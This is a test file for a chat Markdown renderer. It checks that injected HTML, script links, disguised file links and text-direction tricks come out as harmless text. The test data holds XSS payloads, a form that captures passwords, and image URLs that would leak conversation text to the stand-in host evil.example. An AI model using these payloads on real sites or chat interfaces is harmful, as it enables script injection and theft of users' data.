import { render, screen, within } from '@testing-library/react';
import { I18nProvider } from '../../../i18n/i18n-provider.js';
import { loadMessages } from '../../../i18n/language.js';
import { Markdown } from './markdown.js';

const shown = (text: string) => render(<Markdown text={text} />, { wrapper: I18nProvider }).container;
/** What could act by itself, or load something. */
const ALIVE =
  'script, style, iframe, object, embed, img, picture, video, audio, source, svg, link, meta, base, form, input';

beforeAll(() => loadMessages(['ai-chat']));

describe('Markdown', () => {
  test.each<[string, string]>([
    ['a script', '<script>alert(1)</script>'],
    ['a script in a paragraph', 'Hi <script>alert(1)</script> there'],
    ['a picture that runs a script', '<img src=x onerror=alert(1)>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a form', '<form action="https://evil.example"><input name="password"></form>'],
    ['a style', '<style>@import "https://evil.example/x.css"</style>'],
    ['an svg', '<svg onload=alert(1)><use href="https://evil.example/#x"/></svg>'],
    ['a base', '<base href="https://evil.example/">'],
  ])('A7: %s is text', (_what, html) => {
    const container = shown(html);

    expect(container.querySelectorAll(ALIVE)).toHaveLength(0);
    expect(container).toHaveTextContent(html.replaceAll(/\s+/g, ' '));
  });

  test.each([
    '![a cat](https://evil.example/?q=what-was-said)',
    '![a cat][x]\n\n[x]: https://evil.example/?q=what-was-said',
    '[![a cat](https://evil.example/x.png)](javascript:alert(1))',
  ])('A7: a picture is words, and nothing is loaded: %j', text => {
    const container = shown(text);

    expect(container).toHaveTextContent('[picture: a cat]');
    expect(container.innerHTML).not.toContain('evil.example');
  });

  test.each([
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](java&#10;script:alert(1))',
    '[click](data:text/html,<script>alert(1)</script>)',
    '[click](vbscript:x)',
    '[click](file:///etc/passwd)',
    '[click](//evil.example)',
    '[click](/api/auth/logout)',
    '[click](mailto:a@evil.example)',
  ])('A7: a link that does not lead to the web is text: %s', text => {
    expect(shown(text).querySelector('a, [href], [src]')).toBeNull();
    expect(screen.getByText(/click/)).toBeVisible();
  });

  test('a link to the web opens elsewhere, tells nothing of this page, and says where it leads', () => {
    const container = shown('Read [your bank](https://evil.example/login).');

    const link = within(container).getByRole('link', { name: 'your bank' });
    expect(link).toHaveAttribute('href', 'https://evil.example/login');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link.getAttribute('rel')?.split(' ')).toEqual(
      expect.arrayContaining(['noopener', 'noreferrer', 'nofollow']),
    );
    expect(container).toHaveTextContent('Read your bank (evil.example/login).');
  });

  test.each([
    '[photo.jpg](https://evil.example/%E2%80%AEgpj.exe)',
    '[https://bank.example/photo.jpg](https://evil.example/a.exe)',
  ])('M6: a link that is called otherwise shows the host and the end of the path: %s', text => {
    const container = shown(text);

    expect(container).toHaveTextContent(/ \(evil\.example\/.*\.exe\)$/);
    expect(within(container).getByRole('link')).toHaveAttribute('dir', 'auto');
  });

  test('M6: of a long path the end is shown', () => {
    const container = shown(`[photo.jpg](https://evil.example/${'a/'.repeat(100)}b.exe)`);

    expect(container).toHaveTextContent(/^photo\.jpg \(evil\.example\/….{1,36}\/b\.exe\)$/);
  });

  test.each(['\u202Egpj.exe', '&#x202E;gpj.exe', '[\u2067gpj.exe](https://evil.example/)'])(
    'M6: no text of an answer changes the order of the text around it: %j',
    text => {
      expect(shown(text).textContent).toMatch(/^gpj\.exe/);
    },
  );

  test('M6: an address with a sign-in name in it, which looks like another host, is text', () => {
    expect(shown('[click](https://attune.example@evil.example/)').querySelector('a')).toBeNull();
  });

  test('lists, emphasis and quotes are set; headings are no headings of the page', () => {
    const container = shown('# Title\n\n- **one**\n- two\n\n> quoted\n\n`code`');

    expect(within(container).getAllByRole('listitem')).toHaveLength(2);
    expect(container.querySelector('blockquote')).toHaveTextContent('quoted');
    expect(within(container).queryByRole('heading')).toBeNull();
    expect(container).toHaveTextContent('Title');
  });
});
